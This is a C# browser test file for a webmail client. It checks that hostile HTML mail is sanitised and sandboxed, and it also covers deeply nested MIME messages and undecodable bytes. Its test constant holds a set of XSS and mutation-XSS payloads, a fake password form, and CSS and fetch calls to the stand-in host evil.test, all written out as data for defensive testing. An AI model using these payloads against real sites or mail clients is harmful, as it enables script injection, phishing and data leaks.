using System.Text;
using Microsoft.Playwright;
using Posthouse.Mail;
using static Posthouse.Browser.Webmail;

namespace Posthouse.BrowserMail.Tests;

/// <summary>Mail that is written to break its reader, in a real browser: nothing of it runs, nothing of it is fetched, and nothing of it reaches the page.</summary>
public sealed class HostileMailTests(BrowserHost host)
{
    private const string Hostile = """
        <html><body onload="top.pwned=1"><h1>Invoice</h1>
        <script>top.pwned=1;fetch('https://evil.test/script')</script>
        <img src=x onerror="top.pwned=1"><svg onload="top.pwned=1"><script>top.pwned=1</script></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">
        <noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>
        <iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="javascript:top.pwned=1"></object><embed src="https://evil.test/embed">
        <form action="https://evil.test/form"><input name="password"><button>Sign in</button></form>
        <a href="javascript:top.pwned=1" id="bad">click</a><a href="https://evil.test/page" id="good">page</a>
        <meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/style.css">
        <style>@import url(https://evil.test/import.css); body { background: url(https://evil.test/background) } a[href^="h"] { background: url(https://evil.test/leak) } * { position: fixed !important }</style>
        <div style="background-image:url(https://evil.test/inline);position:fixed;inset:0">over everything</div>
        <img src="https://evil.test/tracker.gif" width="1" height="1"><video src="https://evil.test/video"></video><picture><source srcset="https://evil.test/srcset"><img src="//evil.test/relative"></picture>
        </body></html>
        """;

    [Fact]
    public async Task Nothing_of_it_runs_or_is_fetched()
    {
        EmailAddress account = await host.TakeAccountAsync(withMail: false);
        string message = $"From: \"<img src=x onerror=top.pwned=1>\" <a@evil.test>\r\nSubject: <script>top.pwned=1</script> hostile\r\nMessage-ID: <h@evil.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{Hostile.ReplaceLineEndings("\r\n")}";
        await host.DeliverAsync(await host.IdOfAsync(account), MailboxRole.Inbox, Encoding.UTF8.GetBytes(message));
        await using Webmail mail = await host.OpenAsync(account);
        var abroad = new List<string>();
        mail.Context.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(host.Origin, StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)) lock (abroad) abroad.Add(request.Url);
        };
        await mail.OpenAsync("hostile");
        IFrameLocator frame = mail.Page.FrameLocator(".frame");
        await Expect(frame.GetByText("Invoice")).ToBeVisibleAsync();
        await Expect(frame.Locator("script, iframe, object, embed, form, input, svg, math, meta[http-equiv], link, video, noscript")).ToHaveCountAsync(0);
        Assert.False(await frame.Locator("body").EvaluateAsync<bool>("body => [...body.querySelectorAll('*')].some(e => [...e.attributes].some(a => a.name.startsWith('on') || /javascript:/i.test(a.value)))"));
        Assert.Equal("allow-same-origin allow-popups allow-popups-to-escape-sandbox", await mail.Page.Locator(".frame").GetAttributeAsync("sandbox"));
        // Even a script that came through would not run where the message is.
        await frame.Locator("body").EvaluateAsync("body => { const script = body.ownerDocument.createElement('script'); script.textContent = 'top.pwned = 1'; body.append(script); }");
        Assert.True(await mail.Page.EvaluateAsync<bool>("() => top.pwned === undefined"));
        lock (abroad) Assert.Empty(abroad);
        Assert.Equal("/mail/frame.html", await frame.Locator("body").EvaluateAsync<string>("body => body.ownerDocument.location.pathname"));
    }

    [Theory]
    [InlineData("en-US", "This message is built in a way that cannot be shown", "Download the message")]
    [InlineData("zh-CN", "此邮件的结构无法解析", "下载邮件")]
    public async Task A_message_that_is_nested_too_deeply_says_so_and_can_be_kept(string language, string text, string keep)
    {
        EmailAddress account = await host.TakeAccountAsync(withMail: false);
        var message = new StringBuilder("From: a@deep.test\r\nSubject: Matryoshka\r\nMessage-ID: <deep@deep.test>\r\nMIME-Version: 1.0\r\n");
        for (int i = 0; i < 1000; i++) message.Append("Content-Type: multipart/mixed; boundary=b").Append(i).Append("\r\n\r\n--b").Append(i).Append("\r\n");
        message.Append("Content-Type: text/plain\r\n\r\nThe innermost\r\n");
        await host.DeliverAsync(await host.IdOfAsync(account), MailboxRole.Inbox, Encoding.UTF8.GetBytes(message.ToString()));
        await using Webmail mail = await host.OpenAsync(account, language == "en-US" ? Profile.Desktop : Profile.Phone with { Language = language, Dark = true });
        await mail.OpenAsync("Matryoshka");
        await Expect(mail.Page.Locator(".message .tip.warn")).ToContainTextAsync(text);
        ILocator link = mail.Page.Locator(".message .tip.warn").GetByRole(AriaRole.Link, new() { Name = keep });
        await mail.PictureAsync($"mail-nested-{language}");
        await mail.CheckBarriersAsync();
        IDownload download = await mail.Page.RunAndWaitForDownloadAsync(() => link.ClickAsync());
        Assert.Equal("Matryoshka.eml", download.SuggestedFilename);
        Assert.Contains("The innermost", await File.ReadAllTextAsync(await download.PathAsync()), StringComparison.Ordinal);
        Assert.Empty(mail.Complaints);
    }

    [Fact]
    public async Task A_text_with_characters_that_could_not_be_read_says_so()
    {
        EmailAddress account = await host.TakeAccountAsync(withMail: false);
        byte[] message = [.. "From: a@odd.test\r\nSubject: Odd octets\r\nMessage-ID: <odd@odd.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nsome "u8, 0xff, 0xfe, .. " text\r\n"u8];
        await host.DeliverAsync(await host.IdOfAsync(account), MailboxRole.Inbox, message);
        await using Webmail mail = await host.OpenAsync(account);
        await mail.OpenAsync("Odd octets");
        await Expect(mail.Page.Locator(".message .tip").GetByText("Some characters of this text could not be read.")).ToBeVisibleAsync();
        Assert.Empty(mail.Complaints);
    }
}
